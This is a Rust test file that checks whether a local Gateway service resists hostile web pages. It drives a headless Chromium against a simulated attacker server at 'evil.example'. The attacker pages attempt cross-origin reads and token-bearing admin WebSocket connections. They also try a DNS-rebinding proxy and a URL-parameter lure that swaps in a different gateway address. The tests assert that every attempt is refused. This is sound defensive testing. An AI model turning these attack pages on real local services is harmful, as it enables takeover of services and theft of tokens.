//! Pages that somebody else wrote, in a real Chromium on the machine of the Gateway.
//!
//! The pages know the token, so that nothing but where they come from keeps them out.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::thread;
use std::time::Duration;

use rustix::process::{Pid, Signal, kill_process_group};
use serde_json::Value;
use tempfile::TempDir;

use crate::machine::Machine;

const CHROMIUM: &str = "/usr/bin/chromium";
/// A browser takes its time on a busy machine.
const PATIENCE: Duration = Duration::from_secs(60);
/// A name that leads to loopback, as a hostile name server would have it.
const NAME: &str = "evil.example";

/// A web server of somebody else's. It serves one page, takes what that page found out, and can turn
/// into the Gateway: then every connection is carried to it, as after a change of the name's address.
struct Attacker {
    port: u16,
    found: Receiver<Value>,
    rebound: Arc<AtomicBool>,
}

impl Attacker {
    fn start(page: impl Fn(u16) -> String, gateway: u16) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let page: Arc<str> = page(port).into();
        let rebound = Arc::new(AtomicBool::new(false));
        let (sender, found) = channel();
        let turned = Arc::clone(&rebound);
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let (page, sender, turned) =
                    (Arc::clone(&page), sender.clone(), Arc::clone(&turned));
                thread::spawn(move || serve(stream, &page, &sender, &turned, gateway));
            }
        });
        Self { port, found, rebound }
    }

    /// What the page found out, by attempt.
    fn found(&self) -> Value {
        self.found.recv_timeout(PATIENCE).unwrap()
    }
}

/// The page reports and asks for the turn on paths that the Gateway would not know.
fn serve(
    stream: TcpStream,
    page: &str,
    found: &Sender<Value>,
    turned: &AtomicBool,
    gateway: u16,
) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut head = String::new();
    let mut length = 0;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).ok()? == 0 {
            return None;
        }
        let lower = line.to_ascii_lowercase();
        length = lower
            .strip_prefix("content-length:")
            .and_then(|value| value.trim().parse().ok())
            .unwrap_or(length);
        head.push_str(&line);
        if line == "\r\n" {
            break;
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    let path = head.split_whitespace().nth(1)?;
    let answer = match path {
        "/found" => {
            found.send(serde_json::from_slice(&body).ok()?).ok()?;
            ""
        }
        "/turn" => {
            turned.store(true, Ordering::SeqCst);
            ""
        }
        _ if turned.load(Ordering::SeqCst) => return carry(&head, reader, stream, gateway),
        _ => page,
    };
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
        answer.len()
    );
    let mut stream = stream;
    stream.write_all(response.as_bytes()).ok()
}

/// Hands a request on to the Gateway as it came, and whatever follows in both directions.
fn carry(
    head: &str,
    mut guest: BufReader<TcpStream>,
    mut back: TcpStream,
    gateway: u16,
) -> Option<()> {
    let mut far = TcpStream::connect(("127.0.0.1", gateway)).ok()?;
    // One request for each connection, or the report would go to the Gateway too.
    let head = head.replace("Connection: keep-alive", "Connection: close");
    far.write_all(head.as_bytes()).ok()?;
    let mut forth = far.try_clone().ok()?;
    thread::spawn(move || {
        std::io::copy(&mut guest, &mut forth).ok();
        forth.shutdown(Shutdown::Write).ok();
    });
    std::io::copy(&mut far, &mut back).ok();
    back.shutdown(Shutdown::Both).ok()
}

/// A browser without a window; it ends with this value.
struct Browser {
    process: Child,
    _profile: TempDir,
}

impl Browser {
    fn open(url: &str) -> Self {
        Self::with(&[], url)
    }

    fn with(flags: &[&str], url: &str) -> Self {
        let profile = tempfile::tempdir().unwrap();
        let process = Command::new(CHROMIUM)
            .args(["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            .args(["--no-first-run", "--disable-extensions", "--disable-background-networking"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(format!("--host-resolver-rules=MAP {NAME} 127.0.0.1"))
            .args(flags)
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .unwrap_or_else(|error| panic!("{CHROMIUM}: {error}"));
        Self { process, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let group = i32::try_from(self.process.id()).ok().and_then(Pid::from_raw);
        if let Some(group) = group {
            // Gone already if it crashed; then the page reported nothing.
            kill_process_group(group, Signal::KILL).ok();
        }
        self.process.wait().ok();
    }
}

/// What every page can do: read an address, and say something on a WebSocket.
const TOOLS: &str = r#"
<!doctype html><title>page</title><script>
const found = {};
const attempt = async (name, act) => {
  try { found[name] = await act(); } catch (error) { found[name] = "blocked: " + error; }
};
const read = async (url) => (await fetch(url)).status;
const connect = (url, client, mode, token) => new Promise((resolve) => {
  const socket = new WebSocket(url);
  const end = (text) => { resolve(text); socket.close(); };
  socket.onerror = () => end("blocked: no socket");
  socket.onclose = (event) => end("closed " + event.code);
  socket.onmessage = (message) => {
    const frame = JSON.parse(message.data);
    if (frame.event === "connect.challenge") {
      socket.send(JSON.stringify({ type: "req", id: "1", method: "connect", params: {
        minProtocol: 3, maxProtocol: 4, role: "operator", scopes: ["operator.admin"],
        client: { id: client, mode, version: "1.0.0", platform: "web" }, auth: { token },
      } }));
    } else if (frame.id === "1") {
      end(frame.ok ? "connected" : "refused: " + (frame.error.details?.code ?? frame.error.code));
    }
  };
});
const report = () => fetch("/found", { method: "POST", body: JSON.stringify(found) });
</script>
"#;

fn page(script: &str) -> String {
    format!("{TOOLS}<script>(async () => {{ {script} await report(); }})();</script>")
}

#[test]
fn a_page_of_another_origin_gets_nowhere_even_with_the_token() {
    let server = Machine::new();
    let gateway = server.gateway(&["--port", "0"]);
    let (port, token) = (gateway.port, server.token());
    let script = format!(
        r#"
        const url = "ws://127.0.0.1:{port}/";
        await attempt("read", () => read("http://127.0.0.1:{port}/healthz"));
        await attempt("cli", () => connect(url, "cli", "cli", "{token}"));
        await attempt("ui", () => connect(url, "openclaw-control-ui", "ui", "{token}"));
        await attempt("backend", () => connect(url, "gateway-client", "backend", "{token}"));
        await attempt("node", () => connect(url, "node-host", "node", "{token}"));
        await attempt("name", () => connect("ws://{NAME}:{port}/", "cli", "cli", "{token}"));
        "#
    );
    let attacker = Attacker::start(|_| page(&script), port);
    let _browser = Browser::open(&format!("http://{NAME}:{}/", attacker.port));
    let found = attacker.found();
    for name in ["read", "cli", "ui", "backend", "node", "name"] {
        let outcome = found[name].as_str().unwrap_or_default();
        assert!(
            outcome.starts_with("blocked") || outcome.starts_with("refused"),
            "{name}: {found}"
        );
    }
    assert_eq!(found["ui"], "refused: CONTROL_UI_ORIGIN_NOT_ALLOWED", "{found}");
}

#[test]
fn a_name_that_turns_to_the_gateway_is_refused() {
    let server = Machine::new();
    let gateway = server.gateway(&["--port", "0"]);
    let token = server.token();
    let script = |port: u16| {
        format!(
            r#"
            await fetch("/turn");
            await attempt("read", () => read("/healthz"));
            await attempt("page", () => read("/"));
            await attempt("socket", () => connect("ws://{NAME}:{port}/", "cli", "cli", "{token}"));
            "#
        )
    };
    let attacker = Attacker::start(|port| page(&script(port)), gateway.port);
    let _browser = Browser::open(&format!("http://{NAME}:{}/", attacker.port));
    let found = attacker.found();
    assert!(attacker.rebound.load(Ordering::SeqCst));
    assert_eq!((&found["read"], &found["page"]), (&403.into(), &403.into()), "{found}");
    assert_eq!(found["socket"], "blocked: no socket", "{found}");
}

#[test]
fn over_tls_a_foreign_name_gets_nowhere_whatever_the_browser_thinks_of_certificates() {
    let server = Machine::new();
    server.configure("{ gateway: { tls: { enabled: true } } }");
    let gateway = server.gateway(&["--port", "0"]);
    let (port, token) = (gateway.port, server.token());
    let script = format!(
        r#"
        const url = "wss://{NAME}:{port}/";
        await attempt("read", () => read("https://{NAME}:{port}/healthz"));
        await attempt("cli", () => connect(url, "cli", "cli", "{token}"));
        await attempt("ui", () => connect(url, "openclaw-control-ui", "ui", "{token}"));
        await attempt("node", () => connect(url, "node-host", "node", "{token}"));
        "#
    );
    // A browser that checks certificates never gets as far as the origin; one that does not, does.
    for (flags, ui) in [
        (&[][..], "blocked: no socket"),
        (&["--ignore-certificate-errors"], "refused: CONTROL_UI_ORIGIN_NOT_ALLOWED"),
    ] {
        let attacker = Attacker::start(|_| page(&script), port);
        let _browser = Browser::with(flags, &format!("http://{NAME}:{}/", attacker.port));
        let found = attacker.found();
        for name in ["read", "cli", "ui", "node"] {
            let outcome = found[name].as_str().unwrap_or_default();
            assert!(
                outcome.starts_with("blocked") || outcome.starts_with("refused"),
                "{name}: {found}"
            );
        }
        assert_eq!(found["ui"], ui, "{found}");
    }
}

#[test]
fn an_address_with_a_gateway_in_it_connects_to_nobody() {
    let server = Machine::new();
    let gateway = server.gateway(&["--port", "0"]);
    let (port, token) = (gateway.port, server.token());
    let stranger = TcpListener::bind("127.0.0.1:0").unwrap();
    let theirs = stranger.local_addr().unwrap().port();
    let visits = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&visits);
    thread::spawn(move || {
        for _ in stranger.incoming() {
            count.fetch_add(1, Ordering::SeqCst);
        }
    });
    let script = format!(
        r##"
        const open = (query) => new Promise((resolve) => {{
          const frame = document.createElement("iframe");
          frame.onload = () => resolve("loaded");
          frame.src = "http://127.0.0.1:{port}/" + query;
          document.body.append(frame);
        }});
        const lure = "gatewayUrl=ws://127.0.0.1:{theirs}&token={token}";
        await attempt("query", () => open("?" + lure));
        await attempt("hash", () => open("#" + lure));
        "##
    );
    let attacker = Attacker::start(|_| format!("<body>{}", page(&script)), port);
    let _browser = Browser::open(&format!("http://{NAME}:{}/", attacker.port));
    let found = attacker.found();
    assert_eq!((&found["query"], &found["hash"]), (&"loaded".into(), &"loaded".into()), "{found}");
    assert_eq!(visits.load(Ordering::SeqCst), 0, "nobody was connected to");
}
